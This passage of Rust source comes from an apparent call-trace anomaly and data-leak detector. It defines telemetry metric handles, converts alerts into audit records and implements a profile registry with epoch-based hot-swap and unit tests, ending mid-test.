    /// `detect.kernel.sparse` — flagged windows scored by the exact sparse
    /// CSR kernel.
    pub kernel_sparse: Counter,
    /// `detect.kernel.beam` — flagged windows scored with beam pruning
    /// (scores approximate, bounded by `beam.gap_bound_micronats_max`).
    pub kernel_beam: Counter,
    /// `detect.kernel.batch_windows` — windows scored through the batched
    /// sparse kernel (any precision); `windows_scored` minus this is the
    /// lane-by-lane remainder (dense/beam kernels, short windows).
    pub batch_windows: Counter,
    /// `detect.kernel.f32_windows` — windows whose f32 fast-path score was
    /// accepted (landed outside the guard band around the threshold).
    pub f32_windows: Counter,
    /// `detect.kernel.f32_rescored` — windows rescored in f64 because the
    /// f32 score landed inside the guard band (or was non-finite).
    pub f32_rescored: Counter,
    /// `beam.windows_pruned` — beam-scored windows where at least one
    /// state was pruned from α.
    pub beam_windows_pruned: Counter,
    /// `beam.gap_bound_micronats_max` — running maximum of the per-window
    /// log-likelihood error bound, in micro-nats (the bound is a small
    /// f64; gauges are integral, so it is scaled by 1e6 and rounded up).
    pub beam_gap_bound_max: Gauge,
    /// `monitor.tier.full.windows` — windows emitted by tier-armed
    /// sessions while assigned the full-incremental tier.
    pub tier_full_windows: Counter,
    /// `monitor.tier.beam.windows` — windows emitted under the
    /// beam-pruned tier (flags classified on the gap-bound lower bound).
    pub tier_beam_windows: Counter,
    /// `monitor.tier.spot.windows` — windows emitted under the
    /// spot-check tier (cadence checks plus danger escapes).
    pub tier_spot_windows: Counter,
    /// `monitor.tier.spot.skipped` — spot-check windows whose verdict was
    /// carried forward without emission (provably Normal: lower-bound
    /// score at or above threshold and no out-of-context call).
    pub tier_spot_skipped: Counter,
    /// `monitor.tier.escalations` — self-escalations back to the full
    /// tier (gap-bound uncertainty around the threshold, or an alarm
    /// raised below the full tier).
    pub tier_escalations: Counter,
}

impl DetectMetrics {
    /// All-no-op handles (the default).
    pub fn disabled() -> DetectMetrics {
        DetectMetrics::default()
    }

    /// Registers every handle against `registry`. Call once, outside the
    /// scoring loop.
    pub fn from_registry(registry: &Registry) -> DetectMetrics {
        DetectMetrics {
            windows_scored: registry.counter("detect.windows_scored"),
            flags_normal: registry.counter("detect.flags.normal"),
            flags_anomalous: registry.counter("detect.flags.anomalous"),
            flags_data_leak: registry.counter("detect.flags.data_leak"),
            flags_out_of_context: registry.counter("detect.flags.out_of_context"),
            score_ns: registry.histogram("detect.score_ns"),
            kernel_dense: registry.counter("detect.kernel.dense"),
            kernel_sparse: registry.counter("detect.kernel.sparse"),
            kernel_beam: registry.counter("detect.kernel.beam"),
            batch_windows: registry.counter("detect.kernel.batch_windows"),
            f32_windows: registry.counter("detect.kernel.f32_windows"),
            f32_rescored: registry.counter("detect.kernel.f32_rescored"),
            beam_windows_pruned: registry.counter("beam.windows_pruned"),
            beam_gap_bound_max: registry.gauge("beam.gap_bound_micronats_max"),
            tier_full_windows: registry.counter("monitor.tier.full.windows"),
            tier_beam_windows: registry.counter("monitor.tier.beam.windows"),
            tier_spot_windows: registry.counter("monitor.tier.spot.windows"),
            tier_spot_skipped: registry.counter("monitor.tier.spot.skipped"),
            tier_escalations: registry.counter("monitor.tier.escalations"),
        }
    }

    /// The counter for one flag kind.
    pub fn flag_counter(&self, flag: Flag) -> &Counter {
        match flag {
            Flag::Normal => &self.flags_normal,
            Flag::Anomalous => &self.flags_anomalous,
            Flag::DataLeak => &self.flags_data_leak,
            Flag::OutOfContext => &self.flags_out_of_context,
        }
    }
}

/// Metric handles for [`BatchDetector`](crate::parallel::BatchDetector):
/// per-trace latency, rayon task accounting, scoring-mode counters, and
/// the [`SlidingForward`](adprom_hmm::SlidingForward) re-anchor totals
/// surfaced from [`adprom_hmm::SlidingStats`].
#[derive(Debug, Clone, Default)]
pub struct BatchMetrics {
    /// `batch.batches` — `detect_batch` / `detect_sessions` invocations.
    pub batches: Counter,
    /// `batch.tasks_spawned` — traces fanned out to the rayon pool.
    pub tasks_spawned: Counter,
    /// `batch.trace_ns` — wall-clock nanoseconds to score one trace.
    pub trace_ns: Histogram,
    /// `batch.mode.exact_windows` — traces scored with the full
    /// per-window forward recompute.
    pub mode_exact: Counter,
    /// `batch.mode.incremental` — traces scored with the sliding scorer.
    pub mode_incremental: Counter,
    /// `sliding.pushes` — events fed through sliding scorers.
    pub sliding_pushes: Counter,
    /// `sliding.reanchors` — exact-recompute fallbacks the sliding
    /// scorers took (0 for smoothed profiles).
    pub sliding_reanchors: Counter,
}

impl BatchMetrics {
    /// All-no-op handles (the default).
    pub fn disabled() -> BatchMetrics {
        BatchMetrics::default()
    }

    /// Registers every handle against `registry`.
    pub fn from_registry(registry: &Registry) -> BatchMetrics {
        BatchMetrics {
            batches: registry.counter("batch.batches"),
            tasks_spawned: registry.counter("batch.tasks_spawned"),
            trace_ns: registry.histogram("batch.trace_ns"),
            mode_exact: registry.counter("batch.mode.exact_windows"),
            mode_incremental: registry.counter("batch.mode.incremental"),
            sliding_pushes: registry.counter("sliding.pushes"),
            sliding_reanchors: registry.counter("sliding.reanchors"),
        }
    }
}

/// Metric handles for the resilience layer of
/// [`BatchDetector`](crate::parallel::BatchDetector): panic isolation,
/// retries, the watchdog, and kernel downgrades. The `health.state` gauge
/// itself is owned by [`HealthMonitor`](crate::resilience::HealthMonitor).
#[derive(Debug, Clone, Default)]
pub struct ResilienceMetrics {
    /// `resilience.worker_panics` — scoring attempts that panicked and
    /// were caught.
    pub worker_panics: Counter,
    /// `resilience.trace_retries` — re-attempts after a caught panic.
    pub trace_retries: Counter,
    /// `resilience.traces_recovered` — traces that succeeded on a retry.
    pub traces_recovered: Counter,
    /// `resilience.traces_failed` — traces abandoned after exhausting
    /// retries (no verdict produced).
    pub traces_failed: Counter,
    /// `resilience.watchdog_trips` — traces whose scoring exceeded the
    /// [`RetryPolicy::watchdog`](crate::resilience::RetryPolicy::watchdog)
    /// budget.
    pub watchdog_trips: Counter,
    /// `resilience.kernel_fallbacks` — sparse/beam kernels refused by CSR
    /// validation and downgraded to dense.
    pub kernel_fallbacks: Counter,
}

impl ResilienceMetrics {
    /// All-no-op handles (the default).
    pub fn disabled() -> ResilienceMetrics {
        ResilienceMetrics::default()
    }

    /// Registers every handle against `registry`.
    pub fn from_registry(registry: &Registry) -> ResilienceMetrics {
        ResilienceMetrics {
            worker_panics: registry.counter("resilience.worker_panics"),
            trace_retries: registry.counter("resilience.trace_retries"),
            traces_recovered: registry.counter("resilience.traces_recovered"),
            traces_failed: registry.counter("resilience.traces_failed"),
            watchdog_trips: registry.counter("resilience.watchdog_trips"),
            kernel_fallbacks: registry.counter("resilience.kernel_fallbacks"),
        }
    }
}

/// Metric handles for
/// [`ProfileRegistry`](crate::registry::ProfileRegistry): tenant count and
/// hot-swap accounting.
#[derive(Debug, Clone, Default)]
pub struct RegistryMetrics {
    /// `registry.apps` — applications currently registered.
    pub apps: Gauge,
    /// `registry.swaps` — successful profile publications (first
    /// registration included).
    pub swaps: Counter,
    /// `registry.swaps_rejected` — hot-swaps refused by validation or a
    /// failed load; the old epoch stayed in force.
    pub swaps_rejected: Counter,
    /// `registry.kernel_fallbacks` — epochs published with a dense
    /// fallback after CSR validation refused the requested kernel.
    pub kernel_fallbacks: Counter,
}

impl RegistryMetrics {
    /// All-no-op handles (the default).
    pub fn disabled() -> RegistryMetrics {
        RegistryMetrics::default()
    }

    /// Registers every handle against `registry`.
    pub fn from_registry(registry: &Registry) -> RegistryMetrics {
        RegistryMetrics {
            apps: registry.gauge("registry.apps"),
            swaps: registry.counter("registry.swaps"),
            swaps_rejected: registry.counter("registry.swaps_rejected"),
            kernel_fallbacks: registry.counter("registry.kernel_fallbacks"),
        }
    }
}

/// Metric handles for [`MonitorRuntime`](crate::runtime::MonitorRuntime):
/// session-table occupancy, ingest queue depth, and eviction/swap
/// accounting across the interleaved stream.
#[derive(Debug, Clone, Default)]
pub struct MonitorMetrics {
    /// `monitor.sessions.active` — sessions currently resident in the
    /// session table.
    pub sessions_active: Gauge,
    /// `monitor.sessions.opened` — sessions admitted to the table.
    pub sessions_opened: Counter,
    /// `monitor.sessions.finished` — sessions closed normally.
    pub sessions_finished: Counter,
    /// `monitor.queue.depth` — run-lifetime high-water mark of events
    /// buffered and not yet flushed through the scoring pool (recorded
    /// via [`Gauge::record_max`] so transient spikes between flushes are
    /// not hidden by a last-write-wins snapshot).
    pub queue_depth: Gauge,
    /// `monitor.events` — tagged events ingested.
    pub events: Counter,
    /// `monitor.evictions.lru` — sessions force-finalized because the
    /// session table hit its capacity bound.
    pub evictions_lru: Counter,
    /// `monitor.evictions.idle` — sessions finalized by the idle timeout.
    pub evictions_idle: Counter,
    /// `monitor.epoch_pins` — events scored against a pinned (superseded)
    /// epoch after a mid-stream hot-swap.
    pub epoch_pins: Counter,
    /// `monitor.flushes` — scoring-pool flushes (backpressure or final).
    pub flushes: Counter,
    /// `monitor.unknown_app` — events dropped because their app id has no
    /// registered profile.
    pub unknown_app: Counter,
    /// `monitor.stage.ingest_ns` — wall-clock nanoseconds per ingested
    /// event (digestion + session-table bookkeeping, excluding any
    /// backpressure flush it triggers).
    pub stage_ingest_ns: Histogram,
    /// `monitor.stage.score_ns` — wall-clock nanoseconds to replay one
    /// session's buffered batch through the scoring kernel (retries
    /// included).
    pub stage_score_ns: Histogram,
    /// `monitor.stage.commit_ns` — wall-clock nanoseconds to serially
    /// commit one replay outcome (audit writes included).
    pub stage_commit_ns: Histogram,
    /// `monitor.stage.finalize_ns` — wall-clock nanoseconds to close one
    /// session slot (short-window finalization + table removal).
    pub stage_finalize_ns: Histogram,
    /// `monitor.flush.batch_sessions` — session batches scored by the most
    /// recent flush.
    pub flush_batch_sessions: Gauge,
    /// `monitor.forensics.reports` — forensic reports drained from session
    /// flight recorders (0 while no session alarms, however many events
    /// flow — the benign-path no-allocation observable).
    pub forensics_reports: Counter,
    /// `monitor.tier.full.assigned` — risk-scheduler assignments to the
    /// full-incremental tier (one per session per re-evaluation).
    pub tier_full_assigned: Counter,
    /// `monitor.tier.beam.assigned` — assignments to the beam-pruned
    /// tier.
    pub tier_beam_assigned: Counter,
    /// `monitor.tier.spot.assigned` — assignments to the spot-check
    /// tier.
    pub tier_spot_assigned: Counter,
    /// `monitor.shed.events` — events dropped at the ingest boundary by
    /// the `DropNewest` shed policy while the queue sat at capacity.
    pub shed_events: Counter,
    /// `monitor.backpressure.flushes` — synchronous flushes forced at the
    /// ingest boundary because the bounded queue was full (the explicit
    /// backpressure signal: the caller stalls for one flush).
    pub backpressure_flushes: Counter,
    /// `monitor.overload.active` — 1 while the pending load exceeds the
    /// configured risk budget, 0 once a flush drains back under it.
    pub overload_active: Gauge,
    /// `monitor.overload.episodes` — transitions from under-budget to
    /// over-budget (distinct overload episodes, not per-event).
    pub overload_episodes: Counter,
}

impl MonitorMetrics {
    /// All-no-op handles (the default).
    pub fn disabled() -> MonitorMetrics {
        MonitorMetrics::default()
    }

    /// Registers every handle against `registry`.
    pub fn from_registry(registry: &Registry) -> MonitorMetrics {
        MonitorMetrics {
            sessions_active: registry.gauge("monitor.sessions.active"),
            sessions_opened: registry.counter("monitor.sessions.opened"),
            sessions_finished: registry.counter("monitor.sessions.finished"),
            queue_depth: registry.gauge("monitor.queue.depth"),
            events: registry.counter("monitor.events"),
            evictions_lru: registry.counter("monitor.evictions.lru"),
            evictions_idle: registry.counter("monitor.evictions.idle"),
            epoch_pins: registry.counter("monitor.epoch_pins"),
            flushes: registry.counter("monitor.flushes"),
            unknown_app: registry.counter("monitor.unknown_app"),
            stage_ingest_ns: registry.histogram("monitor.stage.ingest_ns"),
            stage_score_ns: registry.histogram("monitor.stage.score_ns"),
            stage_commit_ns: registry.histogram("monitor.stage.commit_ns"),
            stage_finalize_ns: registry.histogram("monitor.stage.finalize_ns"),
            flush_batch_sessions: registry.gauge("monitor.flush.batch_sessions"),
            forensics_reports: registry.counter("monitor.forensics.reports"),
            tier_full_assigned: registry.counter("monitor.tier.full.assigned"),
            tier_beam_assigned: registry.counter("monitor.tier.beam.assigned"),
            tier_spot_assigned: registry.counter("monitor.tier.spot.assigned"),
            shed_events: registry.counter("monitor.shed.events"),
            backpressure_flushes: registry.counter("monitor.backpressure.flushes"),
            overload_active: registry.gauge("monitor.overload.active"),
            overload_episodes: registry.counter("monitor.overload.episodes"),
        }
    }
}

/// Per-shard metric handles for
/// [`ShardedMonitor`](crate::shard::ShardedMonitor): what each shard's
/// ingest boundary did with the events routed to it. Registered as
/// `monitor.shard.<i>.{ingested,backpressured,shed}` so dashboards can
/// spot a hot or shedding shard that aggregate `monitor.*` counters
/// (shared by every shard's runtime) would average away.
#[derive(Debug, Clone, Default)]
pub struct ShardMetrics {
    /// `monitor.shard.<i>.ingested` — events admitted by this shard
    /// (normally or after a backpressure flush).
    pub ingested: Counter,
    /// `monitor.shard.<i>.backpressured` — events this shard admitted
    /// only after a forced synchronous flush.
    pub backpressured: Counter,
    /// `monitor.shard.<i>.shed` — events this shard dropped at capacity
    /// under [`ShedPolicy::DropNewest`](crate::runtime::ShedPolicy).
    pub shed: Counter,
}

impl ShardMetrics {
    /// All-no-op handles (the default).
    pub fn disabled() -> ShardMetrics {
        ShardMetrics::default()
    }

    /// Registers the family for shard `shard` against `registry`.
    pub fn from_registry(registry: &Registry, shard: usize) -> ShardMetrics {
        ShardMetrics {
            ingested: registry.counter(&format!("monitor.shard.{shard}.ingested")),
            backpressured: registry.counter(&format!("monitor.shard.{shard}.backpressured")),
            shed: registry.counter(&format!("monitor.shard.{shard}.shed")),
        }
    }
}

/// Converts a (non-Normal) alert into an audit record for `session`,
/// stamped with the scoring `kernel` that produced the window's score
/// (`dense`, `sparse`, or `beam`). The sequence number is assigned later
/// by [`AuditLog::record`](adprom_obs::AuditLog::record). For DataLeak
/// alerts the DDG label and block id are lifted from the window,
/// connecting the alert back to its data source.
pub fn audit_record_from_alert(alert: &Alert, session: &str, kernel: &str) -> AuditRecord {
    let label = if alert.flag == Flag::DataLeak {
        alert.window.iter().find(|n| n.contains("_Q")).cloned()
    } else {
        None
    };
    let bid = label
        .as_deref()
        .and_then(|l| l.rsplit("_Q").next())
        .map(str::to_string);
    AuditRecord {
        seq: 0,
        app: String::new(),
        session: session.to_string(),
        epoch: 0,
        flag: alert.flag.to_string(),
        window: alert.window.clone(),
        log_likelihood: alert.log_likelihood,
        threshold: alert.threshold,
        detail: alert.detail.clone(),
        kernel: kernel.to_string(),
        label,
        bid,
        forensics: None,
        tier: None,
        escalation: None,
        gap_bound_micronats: None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn alert(flag: Flag, window: &[&str]) -> Alert {
        Alert {
            flag,
            log_likelihood: -42.0,
            threshold: -30.0,
            window: window.iter().map(|s| s.to_string()).collect(),
            detail: "detail".to_string(),
        }
    }

    #[test]
    fn leak_alert_carries_label_and_bid() {
        let record = audit_record_from_alert(
            &alert(Flag::DataLeak, &["PQexec", "printf_Q6"]),
            "conn-3",
            "sparse",
        );
        assert_eq!(record.session, "conn-3");
        assert_eq!(record.flag, "DATA-LEAK");
        assert_eq!(record.kernel, "sparse");
        assert_eq!(record.label.as_deref(), Some("printf_Q6"));
        assert_eq!(record.bid.as_deref(), Some("6"));
    }

    #[test]
    fn non_leak_alert_has_no_label() {
        let record = audit_record_from_alert(&alert(Flag::Anomalous, &["a", "b"]), "", "dense");
        assert_eq!(record.flag, "ANOMALOUS");
        assert_eq!(record.kernel, "dense");
        assert_eq!(record.label, None);
        assert_eq!(record.bid, None);
    }

    #[test]
    fn flag_counters_are_distinct() {
        let registry = Registry::new();
        let metrics = DetectMetrics::from_registry(&registry);
        metrics.flag_counter(Flag::DataLeak).inc();
        metrics.flag_counter(Flag::Normal).add(2);
        let snap = registry.snapshot();
        assert_eq!(snap.counter("detect.flags.data_leak"), Some(1));
        assert_eq!(snap.counter("detect.flags.normal"), Some(2));
        assert_eq!(snap.counter("detect.flags.anomalous"), Some(0));
    }

    #[test]
    fn disabled_metrics_discard_updates() {
        let metrics = DetectMetrics::disabled();
        metrics.windows_scored.inc();
        assert_eq!(metrics.windows_scored.get(), 0);
        assert!(!metrics.score_ns.is_enabled());
        let batch = BatchMetrics::disabled();
        batch.sliding_reanchors.add(5);
        assert_eq!(batch.sliding_reanchors.get(), 0);
    }
}
