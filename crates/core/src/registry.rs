//! Layer 2 of the detection stack: the multi-application profile registry
//! with epoch-based hot-swap.
//!
//! A production deployment monitors many profiled applications at once,
//! and profiles get retrained while traffic flows (concept drift). The
//! [`ProfileRegistry`] keys profiles by application id and versions each
//! app's profile with a monotonically increasing **epoch**:
//!
//! * [`ProfileRegistry::register`] validates the incoming profile
//!   ([`Profile::validate`]) and resolves the configured scoring kernel
//!   against it (validated CSR build, falling back to dense on a corrupt
//!   model) **before** publishing — a bad profile can never replace a good
//!   one, it is rejected and the old epoch stays in force;
//! * publishing is an atomic `Arc` swap under a short write lock: readers
//!   ([`ProfileRegistry::current`]) grab an `Arc<ProfileEpoch>` and score
//!   against it lock-free from then on, so **in-flight windows finish on
//!   the epoch they started with** while new sessions pick up the new one;
//! * each app carries a [`HealthMonitor`]: rejected swaps and kernel
//!   downgrades degrade the app's health so operators see which tenant is
//!   running stale or slow.
//!
//! The expensive per-profile work — the CSR decomposition — happens once
//! per epoch, here; every scorer/engine/detector built from the epoch
//! shares it through an `Arc`.

use crate::detect::{DetectionEngine, KernelConfig, KernelState};
use crate::profile::{LoadPolicy, Profile, ProfileDefect, ProfileIoError};
use crate::resilience::HealthMonitor;
use crate::scorer::{KernelStatus, WindowScorer};
use crate::telemetry::RegistryMetrics;
use adprom_hmm::Precision;
use adprom_obs::Registry;
use std::collections::BTreeMap;
use std::path::Path;
use std::sync::{Arc, RwLock};

/// One published generation of an application's profile: the shared
/// profile, the kernel resolved against it (CSR built once), and the
/// epoch number. Immutable once published — a hot-swap publishes a new
/// `ProfileEpoch`, it never mutates an old one.
#[derive(Debug, Clone)]
pub struct ProfileEpoch {
    app: String,
    epoch: u64,
    profile: Arc<Profile>,
    kernel: KernelState,
    status: KernelStatus,
    precision: Precision,
}

impl ProfileEpoch {
    /// The application id this epoch belongs to.
    pub fn app(&self) -> &str {
        &self.app
    }

    /// The epoch number (1 for the first registration, +1 per swap).
    pub fn epoch(&self) -> u64 {
        self.epoch
    }

    /// The shared profile.
    pub fn profile(&self) -> &Arc<Profile> {
        &self.profile
    }

    /// Requested/effective kernel for this epoch and the downgrade
    /// reason, if CSR validation refused the requested one.
    pub fn kernel_status(&self) -> &KernelStatus {
        &self.status
    }

    /// A [`WindowScorer`] scoring on this epoch. Cheap: the profile and
    /// the CSR decomposition are shared, not rebuilt (under
    /// [`Precision::F32Verified`] each scorer mirrors the CSR into f32
    /// once; callers that fan out clone one scorer, sharing the mirror).
    pub fn scorer(&self) -> WindowScorer {
        WindowScorer::new(Arc::clone(&self.profile))
            .with_kernel_state(self.kernel.clone(), self.status.clone())
            .with_precision(self.precision)
    }

    /// A [`DetectionEngine`] scoring on this epoch.
    pub fn engine(&self) -> DetectionEngine {
        DetectionEngine::from_scorer(self.scorer())
    }
}

/// Why [`ProfileRegistry::register`] refused a profile. The previously
/// published epoch (if any) stays in force.
#[derive(Debug)]
pub enum SwapError {
    /// The profile failed semantic validation.
    Invalid(ProfileDefect),
    /// The profile failed to load from disk.
    Io(ProfileIoError),
}

impl std::fmt::Display for SwapError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SwapError::Invalid(defect) => write!(f, "profile rejected: {defect}"),
            SwapError::Io(e) => write!(f, "profile load failed: {e}"),
        }
    }
}

impl std::error::Error for SwapError {}

#[derive(Debug)]
struct AppEntry {
    current: Arc<ProfileEpoch>,
    health: HealthMonitor,
}

/// Multi-application profile store with epoch-based atomic hot-swap.
#[derive(Debug)]
pub struct ProfileRegistry {
    /// Kernel resolved against every registered profile (per epoch).
    kernel: KernelConfig,
    /// Scoring precision applied to every scorer built from an epoch.
    precision: Precision,
    /// How profiles loaded from disk treat semantic defects.
    policy: LoadPolicy,
    apps: RwLock<BTreeMap<String, AppEntry>>,
    metrics: RegistryMetrics,
}

impl Default for ProfileRegistry {
    fn default() -> ProfileRegistry {
        ProfileRegistry::new()
    }
}

impl ProfileRegistry {
    /// An empty registry: dense kernel, strict load policy,
    /// instrumentation disabled.
    pub fn new() -> ProfileRegistry {
        ProfileRegistry {
            kernel: KernelConfig::Dense,
            precision: Precision::F64,
            policy: LoadPolicy::Strict,
            apps: RwLock::new(BTreeMap::new()),
            metrics: RegistryMetrics::disabled(),
        }
    }

    /// Selects the scoring kernel resolved against every registered
    /// profile. Applies to registrations from now on; already-published
    /// epochs keep the kernel they were built with.
    pub fn with_kernel(mut self, kernel: KernelConfig) -> ProfileRegistry {
        self.kernel = kernel;
        self
    }

    /// Selects the scoring precision for every scorer built from epochs
    /// published from now on (see
    /// [`WindowScorer::with_precision`](crate::scorer::WindowScorer::with_precision)).
    pub fn with_precision(mut self, precision: Precision) -> ProfileRegistry {
        self.precision = precision;
        self
    }

    /// How [`ProfileRegistry::load_file`] treats semantic defects.
    pub fn with_load_policy(mut self, policy: LoadPolicy) -> ProfileRegistry {
        self.policy = policy;
        self
    }

    /// Registers metric handles (`registry.apps`, `registry.swaps`,
    /// `registry.swaps_rejected`, `registry.kernel_fallbacks`).
    pub fn with_registry(mut self, registry: &Registry) -> ProfileRegistry {
        self.metrics = RegistryMetrics::from_registry(registry);
        self
    }

    /// Publishes `profile` for `app`, validating first. On success the new
    /// epoch is visible to every subsequent [`ProfileRegistry::current`]
    /// call and the epoch number is returned; scorers built from the old
    /// epoch keep working on their own `Arc` — in-flight windows finish on
    /// the old epoch.
    ///
    /// On failure the old epoch (if any) stays in force, the app's health
    /// degrades, and `registry.swaps_rejected` ticks.
    pub fn register(&self, app: &str, profile: Profile) -> Result<u64, SwapError> {
        if let Err(defect) = profile.validate() {
            let mut apps = self.apps.write().expect("registry poisoned");
            if let Some(entry) = apps.get_mut(app) {
                entry
                    .health
                    .degrade(&format!("hot-swap rejected for `{app}`: {defect}"));
            }
            self.metrics.swaps_rejected.inc();
            return Err(SwapError::Invalid(defect));
        }
        // Resolve the kernel outside the lock — CSR construction is the
        // expensive part of a swap and must not block readers.
        let profile = Arc::new(profile);
        let (kernel, status) = match KernelState::build_validated(self.kernel, &profile) {
            Ok(kernel) => (kernel, KernelStatus::in_force(self.kernel.label())),
            Err(reason) => (
                KernelState::Dense,
                KernelStatus::fallen_back(
                    self.kernel.label(),
                    "dense",
                    format!(
                        "{} kernel refused by CSR validation, using dense: {reason}",
                        self.kernel.label()
                    ),
                ),
            ),
        };
        // The published status reports the caps the epoch's scorers will
        // run with (precision, batch width) — derived through the scorer
        // itself so registry snapshots can never drift from what scores.
        let status = WindowScorer::new(Arc::clone(&profile))
            .with_kernel_state(kernel.clone(), status)
            .with_precision(self.precision)
            .status()
            .clone();
        let mut apps = self.apps.write().expect("registry poisoned");
        let (epoch, health) = match apps.get(app) {
            Some(entry) => (entry.current.epoch + 1, entry.health.clone()),
            None => (1, HealthMonitor::new()),
        };
        if let Some(reason) = &status.fallback_reason {
            self.metrics.kernel_fallbacks.inc();
            health.degrade(&format!("app `{app}` epoch {epoch}: {reason}"));
        }
        let published = Arc::new(ProfileEpoch {
            app: app.to_string(),
            epoch,
            profile,
            kernel,
            status,
            precision: self.precision,
        });
        apps.insert(
            app.to_string(),
            AppEntry {
                current: published,
                health,
            },
        );
        self.metrics.apps.set(apps.len() as i64);
        self.metrics.swaps.inc();
        Ok(epoch)
    }

    /// Loads a versioned `ADPROM-PROFILE v1` file and registers it under
    /// `app` — the persistence-backed hot-swap path. The configured
    /// [`LoadPolicy`] governs defect handling during the load; the
    /// registry's own validation then gates publication as in
    /// [`ProfileRegistry::register`].
    pub fn load_file(&self, app: &str, path: &Path) -> Result<u64, SwapError> {
        let profile = Profile::load_with(path, self.policy).map_err(|e| {
            let mut apps = self.apps.write().expect("registry poisoned");
            if let Some(entry) = apps.get_mut(app) {
                entry
                    .health
                    .degrade(&format!("hot-swap load failed for `{app}`: {e}"));
            }
            self.metrics.swaps_rejected.inc();
            SwapError::Io(e)
        })?;
        self.register(app, profile)
    }

    /// The current epoch for `app` — an `Arc` snapshot; score against it
    /// for as long as needed, swaps never invalidate it.
    pub fn current(&self, app: &str) -> Option<Arc<ProfileEpoch>> {
        self.apps
            .read()
            .expect("registry poisoned")
            .get(app)
            .map(|entry| Arc::clone(&entry.current))
    }

    /// A fresh [`WindowScorer`] on `app`'s current epoch.
    pub fn scorer(&self, app: &str) -> Option<WindowScorer> {
        self.current(app).map(|epoch| epoch.scorer())
    }

    /// A fresh [`DetectionEngine`] on `app`'s current epoch.
    pub fn engine(&self, app: &str) -> Option<DetectionEngine> {
        self.current(app).map(|epoch| epoch.engine())
    }

    /// The per-app health monitor (shared: clones observe the same state).
    pub fn health(&self, app: &str) -> Option<HealthMonitor> {
        self.apps
            .read()
            .expect("registry poisoned")
            .get(app)
            .map(|entry| entry.health.clone())
    }

    /// Registered application ids, sorted.
    pub fn apps(&self) -> Vec<String> {
        self.apps
            .read()
            .expect("registry poisoned")
            .keys()
            .cloned()
            .collect()
    }

    /// Number of registered applications.
    pub fn len(&self) -> usize {
        self.apps.read().expect("registry poisoned").len()
    }

    /// True when no application is registered.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::alphabet::Alphabet;
    use crate::resilience::Health;
    use adprom_hmm::{Hmm, SparseConfig};
    use adprom_lang::{CallSiteId, LibCall};
    use adprom_trace::CallEvent;
    use std::collections::{BTreeMap, BTreeSet};

    fn event(name: &str, caller: &str) -> CallEvent {
        CallEvent {
            name: name.into(),
            call: LibCall::Printf,
            caller: caller.into(),
            site: CallSiteId(0),
            detail: None,
        }
    }

    fn cyclic_profile(app: &str, threshold: f64) -> Profile {
        let alphabet = Alphabet::new(vec!["a".to_string(), "b".to_string(), "c_Q7".to_string()]);
        let m = alphabet.len();
        let mut a = vec![vec![0.001; m]; m];
        a[0][1] = 1.0;
        a[1][2] = 1.0;
        a[2][0] = 1.0;
        a[3][3] = 1.0;
        let mut b = vec![vec![0.001; m]; m];
        for (i, row) in b.iter_mut().enumerate() {
            row[i] = 1.0;
        }
        let pi = vec![1.0; m];
        let mut hmm = Hmm::from_rows(a, b, pi);
        hmm.smooth(1e-4);
        let mut call_callers: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
        for name in ["a", "b", "c_Q7"] {
            call_callers
                .entry(name.to_string())
                .or_default()
                .insert("main".to_string());
        }
        Profile {
            app_name: app.into(),
            alphabet,
            hmm,
            window: 3,
            threshold,
            call_callers,
            labeled_outputs: vec!["c_Q7".to_string()],
        }
    }

    #[test]
    fn register_assigns_epochs_and_swaps_atomically() {
        let registry = ProfileRegistry::new();
        assert!(registry.is_empty());
        assert_eq!(
            registry
                .register("bank", cyclic_profile("bank", -5.0))
                .unwrap(),
            1
        );
        assert_eq!(
            registry
                .register("shop", cyclic_profile("shop", -5.0))
                .unwrap(),
            1
        );
        assert_eq!(registry.len(), 2);
        assert_eq!(registry.apps(), vec!["bank", "shop"]);

        // An in-flight snapshot keeps the old epoch across a swap.
        let before = registry.current("bank").unwrap();
        assert_eq!(
            registry
                .register("bank", cyclic_profile("bank", -7.0))
                .unwrap(),
            2
        );
        let after = registry.current("bank").unwrap();
        assert_eq!(before.epoch(), 1);
        assert_eq!(after.epoch(), 2);
        assert_eq!(before.profile().threshold, -5.0);
        assert_eq!(after.profile().threshold, -7.0);
    }

    #[test]
    fn invalid_profile_is_rejected_and_old_epoch_survives() {
        let reg_metrics = Registry::new();
        let registry = ProfileRegistry::new().with_registry(&reg_metrics);
        registry
            .register("bank", cyclic_profile("bank", -5.0))
            .unwrap();

        let mut bad = cyclic_profile("bank", -5.0);
        bad.threshold = f64::NAN;
        let err = registry.register("bank", bad).unwrap_err();
        assert!(matches!(
            err,
            SwapError::Invalid(ProfileDefect::BadThreshold)
        ));
        // Old epoch still in force, health degraded, rejection counted.
        let current = registry.current("bank").unwrap();
        assert_eq!(current.epoch(), 1);
        assert_eq!(current.profile().threshold, -5.0);
        assert_eq!(registry.health("bank").unwrap().state(), Health::Degraded);
        let snap = reg_metrics.snapshot();
        assert_eq!(snap.counter("registry.swaps"), Some(1));
        assert_eq!(snap.counter("registry.swaps_rejected"), Some(1));
        assert_eq!(snap.gauge("registry.apps"), Some(1));
    }

    #[test]
    fn epochs_share_kernel_and_report_status() {
        let registry = ProfileRegistry::new().with_kernel(KernelConfig::Sparse {
            sparse: SparseConfig::default(),
        });
        registry
            .register("bank", cyclic_profile("bank", -5.0))
            .unwrap();
        let epoch = registry.current("bank").unwrap();
        assert_eq!(epoch.kernel_status().requested, "sparse");
        assert_eq!(epoch.kernel_status().effective, "sparse");
        // Scorers built from one epoch produce the same alerts as a
        // standalone engine on the same profile + kernel.
        let engine = epoch.engine();
        let standalone =
            DetectionEngine::new(&cyclic_profile("bank", -5.0)).with_kernel(KernelConfig::Sparse {
                sparse: SparseConfig::default(),
            });
        let trace: Vec<CallEvent> = ["a", "b", "c_Q7", "a", "evil_exfil", "c_Q7"]
            .iter()
            .map(|n| event(n, "main"))
            .collect();
        assert_eq!(
            format!("{:?}", engine.scan(&trace)),
            format!("{:?}", standalone.scan(&trace))
        );
    }

    #[test]
    fn validated_profile_keeps_requested_kernel() {
        // Profile validation (1e-6) is stricter than CSR reconstruction
        // (1e-5), so a profile that passes `register`'s gate never trips
        // the dense fallback; the fallback branch guards future kernels
        // with tighter requirements.
        let reg_metrics = Registry::new();
        let registry = ProfileRegistry::new()
            .with_kernel(KernelConfig::Sparse {
                sparse: SparseConfig::default(),
            })
